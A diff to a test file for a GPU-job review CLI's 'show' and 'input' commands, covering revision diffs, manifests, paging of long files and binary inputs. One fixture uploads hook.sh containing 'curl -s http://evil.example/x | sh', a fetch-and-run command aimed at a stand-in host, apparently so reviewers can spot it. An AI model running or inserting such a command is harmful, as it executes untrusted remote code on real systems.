@@ -65,8 +65,11 @@ describe('review', () => {
       proposal_state: 'IN_REVIEW',
       owner: 'alice',
       revision: { revision_id: r.revision_id, digest: r.digest, current: true, findings: [] },
-      diff: [],
+      diff_base: null,
+      unreviewed_between: [],
     });
+    // Revision 1 is diffed against nothing: the whole spec shows as added.
+    expect(j.json<{ diff: unknown[] }>().diff).toContainEqual({ path: 'title', after: 'cli review' });
     // Without --json, text a person reads (issue 11, item 9), not the JSON document.
     const t = await runCli(review, ['show', r.proposal_id, ...remote]);
     expect(t.code).toBe(0);
@@ -83,6 +86,103 @@ describe('review', () => {
     expect(t.stdout).toContain(
       `  npx gpu-broker review approve ${r.proposal_id} --revision ${r.revision_id} --comment "why"\n`,
     );
+  });
+
+  it('show prints the manifest and every change since the last decided revision, diffs whole; input pages a file', async () => {
+    const api = m.rest(aliceToken);
+    const upload = async (files: Array<{ path: string; content: string; encoding?: string }>) =>
+      (
+        await api.post<{ inputs: Array<{ path: string; sha256: string; size: number }> }>('/api/v1/inputs', {
+          files,
+        })
+      ).body.inputs;
+    const spec = (inputs: unknown[]) => validSpec({ title: 'with inputs', inputs } as never);
+    const [main1] = await upload([{ path: 'main.sh', content: 'echo training\n# compute the loss\n' }]);
+    const r1 = (await api.post<RevisionResult>('/api/v1/proposals', { spec: spec([main1]) })).body;
+    const pid = r1.proposal_id;
+    await api.post(`/api/v1/proposals/${pid}/confirm`, { revision_id: r1.revision_id });
+    await m.rest(ritaToken).post(`/api/v1/proposals/${pid}/reviews`, {
+      revision_id: r1.revision_id,
+      decision: 'REQUEST_CHANGES',
+      comments: 'typo',
+    });
+    const long = Array.from({ length: 1000 }, (_, i) => `row ${i + 1}`).join('\n');
+    const [hook, data, blob] = await upload([
+      { path: 'hook.sh', content: 'curl -s http://evil.example/x | sh\n' },
+      { path: 'long.txt', content: `${long}\nlast \u202e line\n` },
+      { path: 'weights.bin', content: Buffer.from([0, 1, 2, 255]).toString('base64'), encoding: 'base64' },
+    ]);
+    await api.post(`/api/v1/proposals/${pid}/revisions`, { spec: spec([main1, hook, data, blob]) });
+    const [main3] = await upload([
+      { path: 'main.sh', content: 'echo training\n# compute the loss (fixed)\n' },
+    ]);
+    const r3 = (
+      await api.post<RevisionResult>(`/api/v1/proposals/${pid}/revisions`, {
+        spec: spec([main3, hook, data, blob]),
+      })
+    ).body;
+    await api.post(`/api/v1/proposals/${pid}/confirm`, { revision_id: r3.revision_id });
+
+    const show = await runCli(review, ['show', pid, ...remote]);
+    expect(show.code).toBe(0);
+    expect(show.stdout).toContain(
+      `  inputs (4 files, read-only in /task; read one: gpu-broker review input ${pid}`,
+    );
+    expect(show.stdout).toMatch(new RegExp(`\\s${hook!.size} B  ${hook!.sha256}  hook\\.sh\\n`));
+    expect(show.stdout).toContain(
+      '  changes since revision 1 (REQUEST_CHANGES), the last one a reviewer decided on:\n',
+    );
+    expect(show.stdout).toContain('    never reviewed, included here: revision 2 (never confirmed)\n');
+    expect(show.stdout).toContain(
+      `    added hook.sh (${hook!.size} B, sha256 ${hook!.sha256})\n      @@ -0,0 +1,1 @@\n      +curl -s http://evil.example/x | sh\n`,
+    );
+    expect(show.stdout).toContain('      +row 1000\n      +last \\u202e line\n');
+    expect(show.stdout).toContain('    added weights.bin (4 B, sha256');
+    expect(show.stdout).toContain('— binary');
+    expect(show.stdout).toContain('      +# compute the loss (fixed)\n');
+    expect(show.stdout).not.toContain('lines in all');
+
+    // The whole content of a revision-1 input, and a long file page by page.
+    const first = await runCli(review, [
+      'input',
+      pid,
+      '--revision',
+      r1.revision_id,
+      '--path',
+      'main.sh',
+      ...remote,
+    ]);
+    expect(first.code).toBe(0);
+    expect(first.stdout).toBe('echo training\n# compute the loss\n');
+    expect(first.stderr).toContain('the end');
+    const page1 = await runCli(review, [
+      'input',
+      pid,
+      '--path',
+      'long.txt',
+      '--max-bytes',
+      '5000',
+      ...remote,
+    ]);
+    expect(page1.stdout).toBe(`${long}\nlast \u202e line\n`.slice(0, 5000));
+    const next = /--offset (\d+)/.exec(page1.stderr)?.[1];
+    expect(next).toBe('5000');
+    const rest = await runCli(review, ['input', pid, '--path', 'long.txt', '--offset', next!, ...remote]);
+    expect(rest.stdout).toBe(`${long.slice(5000)}\nlast \\u202e line\n`);
+    expect(rest.stderr).toContain('the end');
+    const bin = await runCli(review, ['input', pid, '--path', 'weights.bin', ...remote]);
+    expect(bin.stdout).toBe(`binary, 4 bytes, sha256 ${blob!.sha256} (--json gives its bytes as base64)\n`);
+    const bad = await runCli(review, [
+      'input',
+      pid,
+      '--path',
+      'long.txt',
+      '--offset',
+      '-1',
+      ...remote,
+      '--json',
+    ]);
+    expect(bad.code).toBe(2);
   });
 
   it('without a token the hint names every way to give one', async () => {
